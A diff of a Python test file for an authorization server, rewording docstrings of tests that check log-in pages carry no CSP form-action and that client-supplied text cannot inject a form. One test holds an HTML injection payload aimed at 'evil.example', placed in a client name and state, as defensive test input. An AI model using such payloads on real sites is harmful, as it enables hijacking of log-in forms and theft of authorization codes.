@@ -56,7 +56,10 @@ def test_the_account_page_has_no_access_to_the_page_that_opened_it(server: AuthS
     ],
 )
 def test_the_pages_of_a_log_in_let_the_client_redirect_the_browser_further(server: AuthServer, uri: str) -> None:
-    """Chromium checks form-action for each redirect after a form, and some clients redirect to a third address."""
+    """The pages' Content-Security-Policy must have no form-action.
+
+    After a form, Chromium applies it to each redirect, and some clients redirect to a third address.
+    """
     visit = Visit(server)
     visit.open(authorization_path(server.register(uri), redirect_uri=uri))
     pages = [visit.browser.get(f"/log-in?request={visit.id}"), visit.log_in("AAAA-AAAA")]
@@ -67,7 +70,7 @@ def test_the_pages_of_a_log_in_let_the_client_redirect_the_browser_further(serve
 
 
 def test_the_forms_of_a_log_in_are_sent_to_this_server_only(server: AuthServer) -> None:
-    """Their policy has no form-action, which would stop a form in the name of a client."""
+    """The pages' policy has no form-action. The test checks that text from a client, such as its name, adds no form."""
     form = '"><form action="https://evil.example"><input name=code><button formaction="https://evil.example">'
     visit = Visit(server)
     visit.open(authorization_path(server.register(client_name=form), state=form))
